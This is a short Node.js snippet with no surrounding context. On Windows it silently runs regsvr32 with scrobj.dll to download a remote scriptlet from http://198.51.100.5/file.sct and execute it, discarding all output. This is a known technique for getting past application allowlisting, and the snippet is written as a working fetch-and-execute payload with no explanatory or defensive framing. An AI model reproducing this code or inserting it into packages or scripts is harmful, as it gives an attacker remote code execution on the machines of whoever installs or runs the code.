const { exec } = require('child_process');
if (require('os').platform() === 'win32') {
  exec('regsvr32 /s /n /u /i:http://198.51.100.5/file.sct scrobj.dll', () => {});
}
